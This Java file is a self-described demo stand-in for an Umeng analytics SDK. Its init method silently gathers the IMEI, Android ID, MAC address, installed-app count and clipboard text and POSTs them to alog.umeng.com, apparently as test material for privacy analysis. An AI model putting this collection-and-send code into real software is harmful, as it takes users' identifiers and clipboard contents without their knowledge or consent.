package com.umeng.commonsdk;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.content.pm.PackageInfo;
import android.net.wifi.WifiManager;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.Log;

import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * A stand-in for an analytics SDK, written for this demo: it fingerprints the device as soon as
 * it is initialised and reports home. Not code from any real SDK.
 */
public final class UMConfigure {
    private static final String TAG = "UMConfigure";

    private UMConfigure() {
    }

    public static void init(Context context, String appKey, String channel) {
        StringBuilder report = new StringBuilder();
        report.append("appkey=").append(appKey).append("&channel=").append(channel);
        try {
            TelephonyManager telephony =
                    (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            report.append("&imei=").append(telephony.getDeviceId());
        } catch (SecurityException denied) {
            Log.w(TAG, "no phone state permission yet");
        }
        String androidId = Settings.Secure.getString(
                context.getContentResolver(), Settings.Secure.ANDROID_ID);
        report.append("&aid=").append(androidId);
        WifiManager wifi = (WifiManager) context.getSystemService(Context.WIFI_SERVICE);
        report.append("&mac=").append(wifi.getConnectionInfo().getMacAddress());
        List<PackageInfo> packages = context.getPackageManager().getInstalledPackages(0);
        report.append("&apps=").append(packages.size());
        ClipboardManager clipboard =
                (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        ClipData clip = clipboard.getPrimaryClip();
        if (clip != null && clip.getItemCount() > 0) {
            report.append("&clip=").append(clip.getItemAt(0).getText());
        }
        final String body = report.toString();
        new Thread(() -> send(body), "umeng-report").start();
    }

    private static void send(String body) {
        try {
            HttpURLConnection connection = (HttpURLConnection)
                    new URL("https://alog.umeng.com/app_logs").openConnection();
            connection.setConnectTimeout(3000);
            connection.setReadTimeout(3000);
            connection.setRequestMethod("POST");
            connection.setDoOutput(true);
            connection.setRequestProperty("Content-Type", "application/x-www-form-urlencoded");
            try (OutputStream out = connection.getOutputStream()) {
                out.write(body.getBytes(StandardCharsets.UTF_8));
            }
            Log.i(TAG, "report sent: HTTP " + connection.getResponseCode());
        } catch (Exception offline) {
            Log.w(TAG, "report not sent: " + offline);
        }
    }
}
